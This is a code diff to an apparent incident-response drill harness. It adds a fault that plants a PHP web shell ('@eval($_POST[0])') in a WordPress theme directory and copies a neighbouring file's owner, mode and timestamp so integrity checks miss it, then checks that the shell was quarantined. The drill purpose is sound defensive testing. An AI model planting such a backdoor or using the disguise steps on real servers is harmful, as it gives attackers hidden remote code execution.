@@ -153,6 +153,30 @@ UNDEFACE = (
     f"debsums -c {DEFACED_PACKAGE}"
 )
 
+# l1_defacement, added files: a PHP web shell planted in a packaged theme directory, owned, moded and
+# dated like the theme's own files (so neither debsums, nor the backup manifest, nor "recently changed"
+# sees it). A nonce makes each drill's shell distinct; its sha256, kept in /run, is what the intact check
+# looks for in the quarantine and its record.
+PLANTED_FILE = "/usr/share/wordpress/wp-content/themes/twentytwentythree/class-theme-cache.php"
+PLANTED_SUM = "/run/portalops-drill-planted.sha256"
+PLANT = (
+    f"theme=$(dirname {PLANTED_FILE}) && "
+    f"printf '<?php // {DEFACE_MARKER} %s\\n@eval($_POST[0]);\\n' \"$(date +%s.%N)\" > {PLANTED_FILE} && "
+    f'chown --reference="$theme/style.css" {PLANTED_FILE} && '
+    f'chmod --reference="$theme/style.css" {PLANTED_FILE} && touch -r "$theme/style.css" {PLANTED_FILE} && '
+    f'sha256sum < {PLANTED_FILE} | cut -d" " -f1 > {PLANTED_SUM} && ls -l {PLANTED_FILE}'
+)
+UNPLANT = f"rm -f {PLANTED_FILE} {PLANTED_SUM}"
+PLANTED_QUARANTINED = (
+    f'test ! -e {PLANTED_FILE} || {{ echo "{PLANTED_FILE} is still in the code tree"; exit 1; }}; '
+    f"want=$(cat {PLANTED_SUM}) || exit 1; "
+    "for record in /var/lib/portalops/evidence/*-code/quarantine.json; do "
+    "dir=${record%/quarantine.json}; "
+    f'[ "$(sha256sum < "$dir/quarantine{PLANTED_FILE}" 2>/dev/null | cut -d" " -f1)" = "$want" ] && '
+    'grep -q "$want" "$record" && { echo "quarantined in $dir, recorded in $record"; exit 0; }; '
+    f'done; echo "{PLANTED_FILE} ($want) is in no quarantine"; exit 1'
+)
+
 # systemd on cgroup v1 learns that a unit's cgroup emptied from the kernel's release agent, which a
 # container cannot run: a killed service whose last process systemd did not itself reap then sits
 # 'deactivating' for its whole stop timeout (90 s) with nothing left in it. Once "$cg" (the unit's
@@ -296,6 +320,17 @@ FAULTS: tuple[Fault, ...] = (
         runbooks=("l1_defacement",),
         # Every file of the sites' data as the backup's manifest recorded it (the upload back, the shell gone).
         intact=f"{BACKUP} verify-files cms-files",
+    ),
+    Fault(
+        "theme_file_planted",
+        "a PHP web shell planted in a packaged theme directory, owned and dated like its neighbours",
+        "cms",
+        inject=PLANT,
+        undo=UNPLANT,
+        runbooks=("l1_defacement",),
+        acts=(("l1_defacement", "quarantine_added_code_files"),),
+        # Gone from the code tree, and in a quarantine with its record (the same sha256 as planted).
+        intact=PLANTED_QUARANTINED,
     ),
 )
 
